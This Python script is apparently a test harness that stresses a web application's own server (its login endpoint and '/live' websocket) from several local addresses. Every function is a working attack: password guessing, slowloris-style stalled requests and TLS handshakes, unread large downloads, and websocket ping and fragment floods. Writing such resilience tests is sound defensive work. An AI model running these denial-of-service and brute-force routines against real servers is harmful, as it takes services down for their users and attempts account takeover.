"""What hosts do to keep others from the page: ``python page_attacks.py URL ATTACK ADDRESS...``.

Each attack continues until the process is killed.
"""

import asyncio
import contextlib
import itertools
import json
import os
import ssl
import sys

import httpx
from websockets.asyncio.client import connect

WATCH = {"watch": {"valve": "V1", "estimator": None, "overview": True}}

UNDER_WAY_S = 2.0
LARGEST = b"GET /vendor/plotly/plotly-gl3d.min.js HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"


class Visitor:
    """A browser at an address of this machine."""

    def __init__(self, url, address):
        self.url, self.address = url, address

    def browser(self, **more):
        transport = httpx.AsyncHTTPTransport(local_address=self.address, verify=False)
        return httpx.AsyncClient(transport=transport, base_url=self.url, **more)

    async def get(self, path="/"):
        async with self.browser(timeout=10.0) as browser:
            return (await browser.get(path)).status_code

    async def log_in(self, user="operator", password="right"):  # noqa: S107
        body = {"user": user, "password": password}
        async with self.browser(timeout=20.0) as browser:
            answer = await browser.post("/log-in", json=body, headers={"Origin": self.url})
        return answer.status_code

    def socket(self):
        return connect(
            self.url.replace("http", "ws", 1) + "/live",
            origin=self.url,
            proxy=None,
            close_timeout=1,
            open_timeout=10,
            local_addr=(self.address, 0),
            ssl=unverified() if self.url.startswith("https") else None,
        )

    async def see(self):
        """View until a number has come."""
        async with self.socket() as socket:
            await socket.send(json.dumps(WATCH))
            async with asyncio.timeout(10):
                while not isinstance(await socket.recv(), bytes):
                    pass

    async def connect(self):
        host, port = self.url.partition("//")[2].split(":")
        return await asyncio.open_connection(host, int(port), local_addr=(self.address, 0))


def unverified():
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    return context


async def guess_the_operator_s_password(visitor):
    for number in itertools.count():
        with contextlib.suppress(httpx.HTTPError):
            await visitor.log_in("operator", f"wrong {number}")
        await asyncio.sleep(0.05)


async def guess_at_invented_names(visitor):
    numbers = itertools.count()

    async def guess():
        while True:
            with contextlib.suppress(httpx.HTTPError):
                await visitor.log_in(f"nobody {next(numbers)}", "wrong")
            await asyncio.sleep(0.5)

    await asyncio.gather(*(guess() for _ in range(10)))


async def hold(visitor, connections, said=b""):
    """Hold a number of connections, each made again when it is closed."""
    await asyncio.gather(*(_hold_one(visitor, said) for _ in range(connections)))


async def _hold_one(visitor, said):
    while True:
        with contextlib.suppress(OSError):
            reader, writer = await visitor.connect()
            try:
                writer.write(said)
                while await reader.read(65_536):
                    pass
            finally:
                writer.transport.abort()
        await asyncio.sleep(0.2)


async def say_nothing(visitor):
    await hold(visitor, 260)


async def start_no_handshake(visitor):
    await hold(visitor, 1_100)


async def stop_in_the_handshake(visitor):
    await hold(visitor, 300, b"\x16\x03\x01\x02\x00\x01")


async def never_end_a_request(visitor):
    await hold(visitor, 260, b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Slow: ")


async def send_half_a_log_in(visitor):
    head = f"POST /log-in HTTP/1.1\r\nHost: 127.0.0.1\r\nOrigin: {visitor.url}\r\n"
    await hold(visitor, 260, head.encode() + b"Content-Length: 4000\r\n\r\n{")


async def read_no_answer(visitor):
    """Ask for the largest file, over and over, and read nothing of it."""

    async def ask():
        while True:
            with contextlib.suppress(OSError):
                _, writer = await visitor.connect()
                try:
                    writer.transport.pause_reading()
                    writer.write(20 * LARGEST)
                    await asyncio.sleep(20.0)
                finally:
                    writer.transport.abort()

    await asyncio.gather(*(ask() for _ in range(100)))


async def view_silently(visitor):
    async def view():
        while True:
            with contextlib.suppress(Exception):
                async with visitor.socket() as socket:
                    async for _ in socket:
                        pass
            await asyncio.sleep(0.2)

    await asyncio.gather(*(view() for _ in range(50)))


async def flood(visitor, frames):
    """Open viewers that send frames as fast as they are taken, and read nothing."""
    netloc = visitor.url.partition("//")[2]
    request = (
        f"GET /live HTTP/1.1\r\nHost: {netloc}\r\nOrigin: {visitor.url}\r\n"
        "Connection: Upgrade\r\nUpgrade: websocket\r\n"
        "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\nSec-WebSocket-Version: 13\r\n\r\n"
    )

    async def send():
        while True:
            with contextlib.suppress(OSError):
                _, writer = await visitor.connect()
                try:
                    writer.write(request.encode())
                    writer.transport.pause_reading()
                    while True:
                        writer.write(frames)
                        await writer.drain()
                        await asyncio.sleep(0.001)
                finally:
                    writer.transport.abort()
            await asyncio.sleep(0.05)

    await asyncio.gather(*(send() for _ in range(10)))


async def ping_and_read_nothing(visitor):
    await flood(visitor, 100 * (b"\x89\xfd\0\0\0\0" + bytes(125)))


async def never_end_a_message(visitor):
    await flood(visitor, b"\x01\x80\0\0\0\0" + 5_000 * b"\x00\x80\0\0\0\0")


async def ask_and_read_nothing(visitor):
    asked = json.dumps(WATCH).encode()
    frame = bytes([0x81, 0x80 | len(asked)]) + bytes(4) + asked
    await flood(visitor, frame)


async def view_as_a_page_does(visitor):
    async def view():
        while True:
            with contextlib.suppress(Exception):
                async with visitor.socket() as socket:
                    await socket.send(json.dumps(WATCH))
                    async for _ in socket:
                        pass
            await asyncio.sleep(0.2)

    await asyncio.gather(*(view() for _ in range(60)))


async def do_all(visitor):
    await asyncio.gather(*(attack(visitor) for attack in PLAIN))


async def main(url, attack, *addresses):
    os.nice(19)  # as if it computed elsewhere
    hosts = [Visitor(url, address) for address in addresses]
    attacking = asyncio.gather(*(ATTACKS[attack](host) for host in hosts))
    await asyncio.sleep(UNDER_WAY_S)
    sys.stdout.write("under way\n")
    sys.stdout.flush()
    await attacking


PLAIN = (
    guess_the_operator_s_password,
    guess_at_invented_names,
    say_nothing,
    view_silently,
    never_end_a_request,
    send_half_a_log_in,
    read_no_answer,
    view_as_a_page_does,
    ping_and_read_nothing,
    never_end_a_message,
    ask_and_read_nothing,
)
ENCRYPTED = (start_no_handshake, stop_in_the_handshake)
ATTACKS = {attack.__name__: attack for attack in (*PLAIN, *ENCRYPTED, do_all)}

if __name__ == "__main__":
    asyncio.run(main(*sys.argv[1:]))
